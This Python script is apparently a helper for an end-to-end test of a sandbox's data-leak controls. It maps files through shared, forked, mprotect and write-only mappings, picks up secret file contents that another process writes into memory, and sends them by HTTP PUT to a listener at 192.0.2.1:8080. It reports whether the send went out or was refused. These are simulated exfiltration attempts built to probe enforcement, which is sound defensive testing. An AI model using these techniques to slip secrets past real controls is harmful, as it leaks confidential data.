#!/usr/bin/python3
"""Readers of file mappings for e2e scenario 29 (issue 14, round 16): each maps a file, reads
what another process puts into it later (no read() of its own: the content arrives in its
memory), then sends that to the listener at 192.0.2.1:8080. Prints "sent TAG" and exits 0
when the send went out; exits 1 with "refused: ..." when it was refused (EPERM), 2 on a
setup error, 3 when the content never came.

  reader PATH READY MARKER           map PATH shared, read-only; READY made once mapped
  reader-unmap PATH READY MARKER DIR N
                                     the same, then copy, unmap, close, unlink PATH and map
                                     N fresh files in DIR (kept mapped) before sending
  reader-many DIR N READY MARKER     map N files DIR/m-0 .. m-(N-1) shared; the marker is
                                     awaited in the last
  reader-fork PATH READY MARKER      map PATH shared, fork; the child reads and sends
  writer-store PATH READY GO SECRET  map PATH shared and writable (clean), READY; once GO
                                     exists read SECRET and store it into the mapping
  mprotect FILE                      map FILE private with no access, mprotect(PROT_READ),
                                     send what the mapping holds
  write-only FILE                    map FILE private PROT_WRITE only, send what it holds
"""
import ctypes
import mmap
import os
import socket
import sys
import time

SIZE = 4096
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def send(data, tag):
    try:
        s = socket.create_connection(("192.0.2.1", 8080), 10)
        s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
        s.shutdown(socket.SHUT_WR)
    except PermissionError as e:
        print("refused:", e, flush=True)
        sys.exit(1)
    try:
        s.recv(256)
    except OSError:
        pass
    s.close()
    print("sent", tag, flush=True)
    sys.exit(0)


def shared_file(path, prot=mmap.PROT_READ):
    flags = os.O_RDWR if prot & mmap.PROT_WRITE else os.O_RDONLY
    if not os.path.exists(path):
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
        os.ftruncate(fd, SIZE)
        os.close(fd)
    fd = os.open(path, flags)
    return fd, mmap.mmap(fd, SIZE, mmap.MAP_SHARED, prot)


def wait_for(m, marker, secs=40):
    end = time.time() + secs
    while time.time() < end:
        if marker in m[:SIZE]:
            return bytes(m[:SIZE]).rstrip(b"\0")
        time.sleep(0.05)
    print("the content never came", flush=True)
    sys.exit(3)


def touch(path):
    open(path, "w").close()


def raw_map(path, prot):
    fd = os.open(path, os.O_RDONLY)
    addr = libc.mmap(None, SIZE, prot, mmap.MAP_PRIVATE, fd, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        print("mmap:", os.strerror(ctypes.get_errno()), flush=True)
        sys.exit(2)
    return fd, addr


def main(argv):
    mode, args = argv[1], argv[2:]
    if mode == "reader":
        path, ready, marker = args
        _, m = shared_file(path)
        touch(ready)
        send(wait_for(m, marker.encode()), mode)
    elif mode == "reader-unmap":
        path, ready, marker, folder, n = args
        fd, m = shared_file(path)
        touch(ready)
        data = wait_for(m, marker.encode())
        m.close()
        os.close(fd)
        os.unlink(path)
        keep = [shared_file(os.path.join(folder, "u-%d" % i)) for i in range(int(n))]
        send(data, "%s (%d kept)" % (mode, len(keep)))
    elif mode == "reader-many":
        folder, n, ready, marker = args
        keep = [shared_file(os.path.join(folder, "m-%d" % i)) for i in range(int(n))]
        touch(ready)
        send(wait_for(keep[-1][1], marker.encode()), mode)
    elif mode == "reader-fork":
        path, ready, marker = args
        _, m = shared_file(path)
        pid = os.fork()
        if pid == 0:
            touch(ready)
            send(wait_for(m, marker.encode()), mode)
        _, status = os.waitpid(pid, 0)
        sys.exit(os.waitstatus_to_exitcode(status))
    elif mode == "writer-store":
        path, ready, go, secret = args
        _, m = shared_file(path, mmap.PROT_READ | mmap.PROT_WRITE)
        touch(ready)
        end = time.time() + 40
        while not os.path.exists(go) and time.time() < end:
            time.sleep(0.05)
        d = open(secret, "rb").read()[:SIZE]
        m[:len(d)] = d
        m.flush()
        print("stored", len(d), flush=True)
    elif mode == "mprotect":
        _, addr = raw_map(args[0], 0)
        if libc.mprotect(addr, SIZE, mmap.PROT_READ) != 0:
            print("mprotect:", os.strerror(ctypes.get_errno()), flush=True)
            sys.exit(2)
        send(ctypes.string_at(addr, os.path.getsize(args[0])), mode)
    elif mode == "write-only":
        _, addr = raw_map(args[0], mmap.PROT_WRITE)
        send(ctypes.string_at(addr, os.path.getsize(args[0])), mode)
    else:
        print("unknown mode", mode, file=sys.stderr)
        sys.exit(2)


if __name__ == "__main__":
    main(sys.argv)
